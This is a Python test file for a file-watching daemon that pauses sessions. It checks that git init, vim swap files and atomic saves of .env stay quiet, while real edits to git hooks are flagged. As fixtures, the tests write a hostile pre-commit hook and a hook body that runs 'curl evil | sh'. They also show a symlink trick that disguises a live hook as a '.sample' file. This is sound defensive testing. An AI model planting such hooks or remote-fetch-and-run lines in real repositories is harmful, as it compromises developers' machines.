"""Noise is reported quietly, with a real daemon in pause mode, real
sessions and real files:

- `git init` in a watched workspace gives no tripwire and no loud protected event (its
  `.sample` hooks, its default config and the new hooks directory are quiet), while a
  real change to `.git/hooks/pre-commit` right after is still loud and pauses;
- opening `.env` in vim (its `.env.swp`) pauses nothing;
- an atomic save (a temporary renamed over `.env`) is one "modified .env", nothing else.
"""

from __future__ import annotations

import json
import os
import time

import pytest
from support.daemon import running_daemon, short_tmp, stopped, wait_for


@pytest.fixture(scope="module")
def env():
    ws = short_tmp("ws-") / "project"
    ws.mkdir()
    (ws / ".env").write_text("TOKEN=one\n")
    policy = f'approval_timeout_s = 120\ntripwire = "pause"\nwatch = {json.dumps([str(ws)])}\n'
    with running_daemon(policy) as d:
        with d.operator() as op:
            wait_for(lambda: op.call("watch.status")["ok"] and op.call("watch.status")["roots"])
        yield d, ws


def protected(op, after=0):
    return [e for e in op.call("watch.recent", {"protected_only": True})["events"] if e["seq"] > after]


def newest_seq(op):
    return max((e["seq"] for e in op.call("watch.recent", {})["events"]), default=0)


def items_of(op, sid):
    return [i for i in op.call("tripwire.list", {"include_resolved": True})["items"] if i["session"] == sid]


def finish(op, sid):
    for item in op.call("tripwire.list", {"open": True})["items"]:
        if item["session"] == sid:
            op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
    if op.call("sessions.get", {"session": sid})["session"]["status"] not in ("exited", "lost"):
        op.call("sessions.kill", {"session": sid, "grace_s": 1})


def test_git_init_is_quiet_and_a_real_hook_is_still_loud(env):
    d, ws = env
    with d.operator() as op:
        mark = newest_seq(op)
        sid = op.call("sessions.new", {"unconfined": True, "argv": ["git", "init", "-q"], "cwd": str(ws)})[
            "session"
        ]["id"]
        try:
            samples = wait_for(
                lambda: [e for e in protected(op, mark) if e["path"].endswith(".sample") or e["count"] > 1]
            )
            assert samples
            time.sleep(1.0)  # everything git init wrote is in
            events = protected(op, mark)
            assert sum(e["count"] for e in events if e["display_path"].startswith(".git/hooks")) >= 13
            loud = [e["display_path"] for e in events if not e["quiet"]]
            assert loud == [], loud
            assert all(e["quiet"] for e in events if e["path"].endswith(".sample"))
            assert any(e["path"] == ".git/config" and "git init" in e["quiet"] for e in events)
            assert items_of(op, sid) == [], [(i["display_path"], i["change"]) for i in items_of(op, sid)]
        finally:
            finish(op, sid)

        writer = op.call(
            "sessions.new",
            {
                "unconfined": True,
                "argv": ["bash", "--norc", "-c", "sleep 0.5; echo evil > .git/hooks/pre-commit; sleep 30"],
                "cwd": str(ws),
            },
        )["session"]
        try:
            item = wait_for(lambda: items_of(op, writer["id"]))[0]
            assert item["state"] == "paused" and item["display_path"] == ".git/hooks/pre-commit"
            hook = [e for e in protected(op, mark) if e["path"] == ".git/hooks/pre-commit"]
            assert hook and hook[0]["quiet"] is None
            assert wait_for(lambda: stopped(writer["pid"]))
        finally:
            finish(op, writer["id"])


@pytest.mark.programs
def test_vim_on_env_pauses_nothing(env):
    d, ws = env
    with d.operator() as op:
        mark = newest_seq(op)
        vim = op.call(
            "sessions.new",
            {
                "unconfined": True,
                "argv": ["vim", "-u", "NONE", "-c", "sleep 1", "-c", "q", ".env"],
                "cwd": str(ws),
            },
        )["session"]
        try:
            swap = wait_for(lambda: [e for e in protected(op, mark) if e["path"] == ".env.swp"])
            assert swap[0]["quiet"] == "editor swap file"
            time.sleep(0.3)
            assert not stopped(vim["pid"]), (
                [(e["path"], e["kind"], e["quiet"]) for e in protected(op, mark)],
                [i["display_path"] for i in items_of(op, vim["id"])],
            )
            wait_for(lambda: op.call("sessions.get", {"session": vim["id"]})["session"]["status"] == "exited")
            time.sleep(0.5)
            assert items_of(op, vim["id"]) == []
            assert [e["path"] for e in protected(op, mark) if not e["quiet"]] == []
        finally:
            finish(op, vim["id"])


def test_an_atomic_save_is_one_modified_event(env):
    _d, ws = env
    with _d.operator() as op:
        time.sleep(0.5)
        mark = newest_seq(op)
        tmp = ws / f".env.tmp.{os.getpid()}"
        tmp.write_text("TOKEN=two\n")
        os.replace(tmp, ws / ".env")
        got = wait_for(lambda: [e for e in protected(op, mark) if e["path"] == ".env"])
        time.sleep(1.0)  # anything else the save caused has arrived
        events = op.call("watch.recent", {})["events"]
        mine = [(e["path"], e["kind"]) for e in events if e["seq"] > mark]
        assert mine == [(".env", "modified")], mine
        assert got[0]["quiet"] is None


def test_a_quiet_name_that_a_hook_links_to_is_loud(env):
    """The trick against the noise rule: `pre-commit -> pre-commit.sample`, then edit the
    "sample". git runs it through the link, so its edits are not noise."""
    d, ws = env
    hooks = ws / ".git" / "hooks"
    hooks.mkdir(parents=True, exist_ok=True)
    target = hooks / "post-checkout.sample"
    target.write_text("#!/bin/sh\ntrue\n")
    with d.operator() as op:
        wait_for(lambda: any(e["path"].endswith("post-checkout.sample") for e in protected(op)))
        mark = newest_seq(op)
        os.symlink("post-checkout.sample", hooks / "post-checkout")
        wait_for(lambda: any(e["path"].endswith("/post-checkout") for e in protected(op, mark)))
        mark = newest_seq(op)
        time.sleep(0.3)
        target.write_text("#!/bin/sh\ncurl evil | sh\n")
        edit = wait_for(
            lambda: [e for e in protected(op, mark) if e["path"].endswith("post-checkout.sample")],
            timeout_s=10,
        )
        assert not edit[-1].get("quiet"), edit[-1]
